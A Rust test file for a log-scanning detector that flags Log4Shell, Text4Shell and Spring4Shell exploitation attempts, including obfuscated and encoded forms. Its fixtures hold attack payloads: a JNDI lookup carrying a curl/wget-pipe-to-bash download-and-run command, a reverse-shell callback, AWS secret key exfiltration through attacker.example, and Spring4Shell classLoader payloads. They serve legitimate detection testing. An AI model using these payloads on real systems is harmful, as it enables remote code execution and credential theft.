//! The detector over whole log lines: rules, raw offsets, indicators, and
//! bounds on hostile input.

use vigilo_detect::{Detector, Hit, Options, Rule};

fn scan(s: &str) -> Vec<Hit> {
    Detector::new(Options::default()).scan_bytes(s.as_bytes())
}

fn one(s: &str) -> Hit {
    let hits = scan(s);
    assert_eq!(hits.len(), 1, "{s}: {hits:#?}");
    hits.into_iter().next().unwrap()
}

#[test]
fn access_log_user_agent() {
    let line = "203.0.113.9 - - [10/Dec/2021:13:55:36 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" \"${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/KGN1cmwgLXMgMTk4LjUxLjEwMC43OjU4NzQvMjAzLjAuMTEzLjk6ODB8fHdnZXQgLXEgLU8tIGh0dHA6Ly9wYXlsb2FkLmV4YW1wbGUveC5zaCl8YmFzaA==}\"\n";
    let h = one(line);
    assert_eq!(h.rule, Rule::Log4ShellJndi);
    assert_eq!(h.line, 1);
    assert_eq!(h.offset as usize, line.find("${jndi").unwrap());
    let cb = h.callback.clone().unwrap();
    assert_eq!(
        (cb.protocol.as_str(), cb.host.as_str(), cb.port),
        ("ldap", "198.51.100.7", Some(1389))
    );
    assert_eq!(
        h.command.as_deref(),
        Some(
            "(curl -s 198.51.100.7:5874/203.0.113.9:80||wget -q -O- http://payload.example/x.sh)|bash"
        )
    );
    assert_eq!(h.urls, vec!["http://payload.example/x.sh"]);
    assert_eq!(h.ips.len(), 2);
    assert_eq!(
        h.source_ip.map(|i| i.to_string()).as_deref(),
        Some("203.0.113.9")
    );
    assert_eq!(
        h.timestamp.map(|t| t.to_string()).as_deref(),
        Some("2021-12-10T13:55:36Z")
    );
}

#[test]
fn url_encoded_and_obfuscated() {
    let line = "198.51.100.1 - - [10/Dec/2021:10:00:00 +0100] \"GET /?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fevil.example%2Fa%7D HTTP/1.1\" 404 1\n";
    let h = one(line);
    assert_eq!(h.rule, Rule::Log4ShellJndi);
    assert_eq!(h.decoded, "${jndi:rmi://evil.example/a}");
    assert!(
        h.obfuscation.contains(&"url") && h.obfuscation.contains(&"lookups"),
        "{:?}",
        h.obfuscation
    );
    assert!(h.raw.starts_with("%24%7B%24%7B"), "{}", h.raw);
    assert_eq!(h.offset as usize, line.find("%24").unwrap());
}

#[test]
fn more_encodings_and_listener_addresses() {
    let h = one("GET /?q=%u0024%u007Bjndi:ldap://iis.example/a%u007D\n");
    assert_eq!(h.callback.unwrap().host, "iis.example");
    let h = one("<p>&amp;#36;&amp;#123;jndi:ldap://twice.example/a&amp;#125;</p>\n");
    assert_eq!(h.callback.unwrap().host, "twice.example");
    let h = one("ua=${jndi:ldap://192.0.2.1:1389/Basic/ReverseShell/198.51.100.9/4444}\n");
    assert_eq!(
        h.ips,
        vec!["198.51.100.9".parse::<std::net::IpAddr>().unwrap()]
    );
}

#[test]
fn exfiltration_and_recon() {
    let h = one("x ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a} y\n");
    assert_eq!(h.rule, Rule::Log4ShellExfil);
    assert_eq!(h.exfiltrates, vec!["env:AWS_SECRET_ACCESS_KEY"]);
    assert_eq!(one("ua=${java:version}\n").rule, Rule::Log4ShellRecon);
    assert_eq!(one("ua=${hostName}\n").rule, Rule::Log4ShellRecon);
    assert_eq!(one("ua=${${lower:e}nv:USER}\n").rule, Rule::Log4ShellRecon);
}

#[test]
fn sibling_families() {
    let h = one(
        "GET /search?q=${script:javascript:java.lang.Runtime.getRuntime().exec('curl http://x.example/p')}\n",
    );
    assert_eq!(h.rule, Rule::Text4Shell);
    assert_eq!(h.urls, vec!["http://x.example/p"]);
    let h = one("q=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fcb.example%2Fz%7D\n");
    assert_eq!(h.rule, Rule::Text4Shell);
    assert_eq!(h.callback.unwrap().host, "cb.example");
    let h = one("q=${dns:address|cb2.example}\n");
    assert_eq!(h.callback.unwrap().host, "cb2.example");
    let h = one(
        "192.0.2.5 - - [31/Mar/2022:10:00:00 +0000] \"GET /app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di HTTP/1.1\" 200 1\n",
    );
    assert_eq!(h.rule, Rule::Spring4Shell);
    assert!(
        h.decoded.starts_with("class.module.classLoader.resources"),
        "{}",
        h.decoded
    );
    let h = one(
        "POST body: class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Esuffix=.jsp\n",
    );
    assert_eq!(h.rule, Rule::Spring4Shell);
}

#[test]
fn benign_lookups_are_not_attacks() {
    for s in [
        "export PATH=${HOME}/bin:$PATH",
        "loading ${user.home}/.m2/settings.xml",
        "url=${spring.datasource.url}",
        "value ${var:-default} resolved",
        "we discussed jndi and ldap at length",
        "ldap.url=ldap://ldap.corp.example:389/dc=corp,dc=example",
        "bad config ${jndi}",
        "datasource ${jndi:java:comp/env/jdbc/ds}",
        "price %24100 and \\u0024 and &#36; and &dollar; 5",
    ] {
        let hits = scan(&format!("{s}\n"));
        assert!(hits.iter().all(|h| !h.rule.is_attack()), "{s}: {hits:#?}");
    }
    let all = Detector::new(Options {
        include_benign: true,
        ..Options::default()
    })
    .scan_bytes(b"x ${jndi:java:comp/env/jdbc/ds}\n");
    assert_eq!(all.len(), 1);
    assert_eq!(all[0].rule, Rule::LookupBenign);
}

#[test]
fn lines_offsets_and_several_payloads() {
    let log = "a\nb ${jndi:ldap://one.example/a} c ${jndi:dns://two.example/b}\n\nd %24%7Bjndi:iiop://three.example/c%7D\n";
    let hits = scan(log);
    assert_eq!(hits.len(), 3);
    assert_eq!(
        hits.iter().map(|h| h.line).collect::<Vec<_>>(),
        vec![2, 2, 4]
    );
    for h in &hits {
        assert_eq!(
            &log[h.offset as usize..h.offset as usize + h.raw.len()],
            h.raw
        );
    }
}

#[test]
fn streaming_equals_whole_and_threads_agree() {
    let mut log = String::new();
    for i in 0..200_000 {
        if i % 997 == 0 {
            log.push_str(&format!(
                "{i} GET /?x=%24%7Bjndi:ldap://h{i}.example/a%7D\n"
            ));
        } else {
            log.push_str(&format!("{i} GET /static/app.js?v={i} 200\n"));
        }
    }
    let d = Detector::new(Options::default());
    let whole = d.scan_bytes(log.as_bytes());
    assert_eq!(whole.len(), 201);
    let mut streamed = Vec::new();
    let slow = std::io::BufReader::with_capacity(7, log.as_bytes());
    let stats = d.scan_reader(slow, &mut |h| streamed.push(h)).unwrap();
    assert_eq!(streamed, whole);
    assert_eq!(stats.lines, 200_000);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("big.log");
    let mut big = String::new();
    while big.len() < (12 << 20) {
        big.push_str(&log);
    }
    std::fs::write(&path, &big).unwrap();
    let f = std::fs::File::open(&path).unwrap();
    let mut one_thread = Vec::new();
    d.scan_file(&f, 1, &mut |h| one_thread.push(h)).unwrap();
    let mut three = Vec::new();
    let st = d.scan_file(&f, 3, &mut |h| three.push(h)).unwrap();
    assert_eq!(one_thread, three);
    assert_eq!(st.lines as usize, big.matches('\n').count());
}

#[test]
fn hostile_lines_are_bounded() {
    let d = Detector::new(Options::default());
    // A 40 MiB line of nested openers and a payload at its end.
    let mut line = "${".repeat(20 << 20);
    line.push_str(" ${jndi:ldap://end.example/a}\n");
    let t = std::time::Instant::now();
    let hits = d.scan_bytes(line.as_bytes());
    assert!(
        hits.iter()
            .any(|h| h.callback.as_ref().is_some_and(|c| c.host == "end.example")),
        "{}",
        hits.len()
    );
    // Resolving lookups, repeated: bounded work per byte.
    let wide = format!("{}\n", "${::-${::-a}}".repeat(200_000));
    let _ = d.scan_bytes(wide.as_bytes());
    assert!(t.elapsed().as_secs() < 60);
}
